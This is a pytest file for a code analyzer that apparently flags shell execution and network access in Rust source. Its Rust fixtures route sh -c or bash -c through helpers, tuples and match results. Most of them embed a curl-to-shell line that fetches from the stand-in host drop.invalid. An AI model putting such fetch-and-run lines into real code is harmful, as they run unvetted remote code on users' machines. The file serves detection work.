"""Builders that own functions make: what is added to them afterwards belongs to them."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from analyzer.model import Fact, FactKind

FactsOf = Callable[..., list[Fact]]
LINE = "curl -fsS https://drop.invalid/k | sh"
HEAD = "use std::process::Command;"

WAYS = {
    "a helper": f"""{HEAD}
        fn shell() -> Command {{ let mut c = Command::new("sh"); c.arg("-c"); c }}
        pub fn go() {{ let _ = shell().arg("{LINE}").status(); }}""",
    "a part of a tuple": f"""{HEAD} type Tool = Command;
        fn shell() -> (Tool, &'static str) {{
            let mut tool = Tool::new("sh"); tool.arg("-c"); (tool, "{LINE}")
        }}
        pub fn go() {{ let (mut tool, line) = shell(); let run = Tool::status; let _ = run(tool.arg(line)); }}""",
    "for each system": f"""{HEAD}
        fn shell() -> (Command, &'static str) {{
            if cfg!(windows) {{ let mut c = Command::new("cmd"); c.arg("/C"); (c, "dir") }}
            else {{ let mut c = Command::new("sh"); c.arg("-c"); (c, "{LINE}") }}
        }}
        pub fn go() {{ let (mut c, line) = shell(); let _ = c.arg(line).spawn(); }}""",
    "a result of a match": f"""{HEAD}
        fn shell(kind: u8) -> Result<Command, ()> {{
            match kind {{ 0 => Err(()), _ => Ok(Command::new("bash")) }}
        }}
        pub fn go() -> Result<(), ()> {{
            let mut c = shell(1)?; c.args(["-c", "{LINE}"]); let _ = c.output(); Ok(())
        }}""",
    "two helpers deep": f"""{HEAD}
        fn base() -> Command {{ Command::new("sh") }}
        fn flagged() -> Command {{ let mut c = base(); c.arg("-c"); c }}
        pub fn go() {{ let mut c = flagged(); c.arg("{LINE}"); let _ = c.spawn(); }}""",
}


@pytest.mark.parametrize("source", WAYS.values(), ids=WAYS)
def test_what_is_added_later_runs(facts_of: FactsOf, source: str) -> None:
    found = facts_of(source, "src/lib.rs")
    assert "https://drop.invalid/k" in [
        one.subject for one in found if one.kind is FactKind.NET_CONNECT
    ]


def test_two_callers_of_a_helper_are_told_apart(facts_of: FactsOf) -> None:
    source = f"""{HEAD}
        fn git() -> Command {{ Command::new("git") }}
        pub fn a() {{ let _ = git().arg("push").status(); }}
        pub fn b() {{ let _ = git().arg("status").status(); }}"""
    found = facts_of(source, "src/lib.rs")
    told = {one.data for one in found if one.kind is FactKind.PROCESS_SPAWN}
    assert {("push",), ("status",)} <= told
    assert ("push", "status") not in told


def test_an_item_picked_at_run_time_may_be_any(facts_of: FactsOf) -> None:
    source = f"""
        const MODES: [&str; 2] = ["true", "{LINE}"];
        pub fn go(at: usize) {{
            let line = MODES[at];
            let _ = std::process::Command::new("sh").args(["-c", line]).status();
        }}"""
    found = facts_of(source, "src/lib.rs")
    assert {"true", LINE} <= {one.subject for one in found if one.kind is FactKind.PROCESS_SHELL}
